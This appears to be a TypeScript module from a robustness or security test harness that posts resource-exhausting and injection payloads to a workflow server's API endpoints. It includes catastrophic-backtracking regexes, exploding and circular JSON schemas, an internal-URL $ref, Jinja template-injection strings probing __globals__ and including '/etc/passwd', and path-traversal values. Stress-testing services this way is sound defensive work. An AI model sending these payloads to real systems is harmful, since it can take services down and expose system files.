import type { Attack, Target } from './target.ts';

/** Small requests that cause much work: [name, path, body]. */
type Calculation = readonly [string, string, unknown];

const validated = (schema: object, values: object): unknown => ({ schema, values });
const textual = (pattern: string, value: string) =>
  validated({ type: 'object', properties: { a: { type: 'string', pattern } } }, { a: value });

/** Nested schemas that expand to `width` to the power of `levels`. */
function exploding(levels: number, width: number): object {
  const definitions: Record<string, object> = { s0: { type: 'string' } };
  for (let level = 1; level <= levels; level++)
    definitions[`s${level}`] = { allOf: Array(width).fill({ $ref: `#/definitions/s${level - 1}` }) };
  return { definitions, type: 'object', properties: { a: { $ref: `#/definitions/s${levels}` } } };
}

const circle = {
  definitions: { a: { $ref: '#/definitions/b' }, b: { $ref: '#/definitions/a' } },
  properties: { a: { $ref: '#/definitions/a' } },
};
const tree = {
  definitions: { t: { type: 'object', properties: { l: { $ref: '#/definitions/t' }, r: { $ref: '#/definitions/t' } } } },
  $ref: '#/definitions/t',
};

const schemas: readonly Calculation[] = [
  ...['(a+)+$', '(a|a)*$', '(.*)*b', '^(([a-z])+.)+[A-Z]([a-z])+$', '((a?){40})a{40}', '(?=(a+))\\1+b', '(x+x+)+y'].map(
    (pattern): Calculation => [`the pattern ${pattern}`, '/ui/schemas/validate', textual(pattern, `${'a'.repeat(60)}!`)],
  ),
  ['a pattern of 100 kB', '/ui/schemas/validate', textual(`(${'a|'.repeat(50_000)}b)`, 'a'.repeat(1000))],
  ['a pattern that counts to a billion', '/ui/schemas/validate', textual('a{1000000000}', 'a')],
  ['an invalid pattern', '/ui/schemas/validate', textual('(((', 'a')],
  ['schemas that expand exponentially', '/ui/schemas/validate', validated(exploding(20, 8), { a: 'x' })],
  ['circular references', '/ui/schemas/validate', validated(circle, { a: 1 })],
  ['recursive references', '/ui/schemas/validate', validated(tree, { l: { l: { r: {} } } })],
  ['an external reference', '/ui/schemas/validate', validated({ $ref: 'http://127.0.0.1:1/schema.json' }, {})],
  ['a reference to the prototype', '/ui/schemas/validate', validated({ $ref: '#/__proto__/constructor' }, {})],
  [
    'uniqueItems of many items',
    '/ui/schemas/validate',
    validated({ properties: { a: { uniqueItems: true } } }, { a: Array.from({ length: 20_000 }, (_, i) => ({ i })) }),
  ],
  [
    'a union of many alternatives',
    '/ui/schemas/validate',
    validated({ properties: { a: { anyOf: Array(5000).fill({ type: 'string', minLength: 5 }) } } }, { a: 1 }),
  ],
];

const TEMPLATES = [
  '{% for i in range(1000000000) %}x{% endfor %}',
  '{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}x{% endfor %}{% endfor %}{% endfor %}',
  "{{ 'a' * 1000000000 }}",
  "{{ ('a' * 10000) * 10000 * 10000 }}",
  '{{ 9 ** 9 ** 9 ** 9 }}',
  "{{ 'a' | center(1000000000) }}",
  '{{ range(1000000000) | list | length }}',
  "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  '{{ self.__init__.__globals__ }}',
  '{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}',
  '{% set a = "x" %}{% for i in range(60) %}{% set a = a ~ a %}{{ a }}{% endfor %}',
  '{{'.repeat(20_000),
  `{{ ${'('.repeat(20_000)}1${')'.repeat(20_000)} }}`,
  `{{ ${'not '.repeat(20_000)}1 }}`,
  `{% if 1 %}${'{% if 1 %}'.repeat(5000)}${'{% endif %}'.repeat(5000)}{% endif %}`,
  `{{ a${'.a'.repeat(50_000)} }}`,
  `{{ a${' | upper'.repeat(20_000)} }}`,
  '{{ "%1000000000d" | format(1) }}',
  '{% include "/etc/passwd" %}',
];
const templates: readonly Calculation[] = TEMPLATES.flatMap((text): Calculation[] => [
  [`the template ${text.slice(0, 40)}`, '/templates/validate', JSON.stringify(text)],
  [`the template ${text.slice(0, 40)}`, '/automations/templates/validate', JSON.stringify(text)],
]);

const RULES = [
  'FREQ=SECONDLY;COUNT=1000000000',
  'FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30',
  'FREQ=YEARLY;INTERVAL=9999;BYMONTH=2;BYMONTHDAY=29;BYDAY=MO',
  'FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30;BYHOUR=25',
  'FREQ=MINUTELY;INTERVAL=1441;BYHOUR=3;BYMINUTE=61',
  'FREQ=DAILY;BYSETPOS=366;BYHOUR=0,1,2,3;BYMINUTE=0,1,2',
  `FREQ=YEARLY;BYYEARDAY=${Array.from({ length: 366 }, (_, i) => i + 1).join(',')};BYHOUR=${Array.from({ length: 24 }, (_, i) => i).join(',')};BYMINUTE=${Array.from({ length: 60 }, (_, i) => i).join(',')};BYSECOND=${Array.from({ length: 60 }, (_, i) => i).join(',')}`,
  'FREQ=SECONDLY;UNTIL=99991231T235959Z;BYSECOND=61',
  `FREQ=DAILY\n${'EXRULE:FREQ=SECONDLY\n'.repeat(200)}`,
  `FREQ=SECONDLY\n${'RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30\n'.repeat(50)}`,
  `FREQ=DAILY\n${'RDATE:20260101T000000Z\n'.repeat(3000)}`,
];
const CRONS = [
  '0 0 30 2 *',
  '0 0 31 4,6,9,11 *',
  '* * * * * *',
  '*/0 * * * *',
  '0-59/1,0-59/1,0-59/1 * * * *',
  `${'1,'.repeat(30_000)}1 * * * *`,
  '0 0 29 2 1#5',
];
const schedules: readonly Calculation[] = [
  ...RULES.flatMap((rule): Calculation[] => [
    [`the rule ${rule.slice(0, 50)}`, '/deployments/schedules/preview', { schedule: { rrule: `RRULE:${rule}` } }],
    [
      `the rule ${rule.slice(0, 50)} since the year 1`,
      '/deployments/schedules/preview',
      { schedule: { rrule: `DTSTART:00010101T000000Z\nRRULE:${rule}`, timezone: 'Africa/Casablanca' } },
    ],
  ]),
  ...CRONS.map(
    (cron): Calculation => [
      `the cron ${cron.slice(0, 30)}`,
      '/deployments/schedules/preview',
      { schedule: { cron, timezone: 'America/New_York' } },
    ],
  ),
  [
    'an interval of a microsecond',
    '/deployments/schedules/preview',
    { schedule: { interval: 0.000_001, anchor_date: '0001-01-01T00:00:00Z' } },
  ],
  ['an interval of ten thousand years', '/deployments/schedules/preview', { schedule: { interval: 3.2e11 } }],
  ['a time zone that is a path', '/deployments/schedules/preview', { schedule: { cron: '* * * * *', timezone: '../../etc/passwd' } }],
];

const filters: readonly Calculation[] = [
  ['a pattern of many wildcards', '/flows/filter', { flows: { name: { like_: '%a_'.repeat(3000) } } }],
  [
    'wildcards in event filters',
    '/events/filter',
    { filter: { resource: { id: Array.from({ length: 100 }, (_, i) => `${'*a'.repeat(100)}${i}`) } } },
  ],
  [
    'a history of every second of all time',
    '/flow_runs/history',
    { history_start: '0001-01-01T00:00:00Z', history_end: '9999-12-31T00:00:00Z', history_interval_seconds: 1 },
  ],
  [
    'event counts per second',
    '/events/count-by/time',
    { filter: { occurred: { since: '0001-01-01T00:00:00Z', until: '9999-12-31T00:00:00Z' } }, time_unit: 'second', time_interval: 0.01 },
  ],
  ['an offset beyond all rows', '/flow_runs/filter', { offset: 2 ** 53, limit: 1 }],
  ['nested triggers', '/automations/', { name: 'deep', actions: [], trigger: nested(60) }],
];

function nested(levels: number): object {
  const event = { type: 'event', posture: 'Reactive', expect: ['x'] };
  return levels === 0 ? event : { type: 'compound', require: 'all', within: 1, triggers: [nested(levels - 1), event] };
}

const attack = (name: string, calculations: readonly Calculation[]): Attack => ({
  name,
  async run(target: Target) {
    for (const [what, path, body] of calculations) await target.post(what, path, body);
    return undefined;
  },
});

export const calculationAttacks: readonly Attack[] = [
  attack('schemas, patterns and references', schemas),
  attack('templates that expand exponentially', templates),
  attack('schedules', schedules),
  attack('filters', filters),
];
